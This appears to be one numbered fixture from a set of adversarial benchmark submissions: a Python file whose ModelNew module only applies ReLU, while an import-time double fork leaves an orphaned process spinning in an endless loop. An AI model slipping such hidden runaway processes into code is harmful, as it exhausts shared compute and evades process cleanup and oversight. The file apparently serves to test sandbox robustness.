"""Kind 15: a process without a parent is never at rest."""

import os

import torch
from torch import nn

if os.fork() == 0:
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
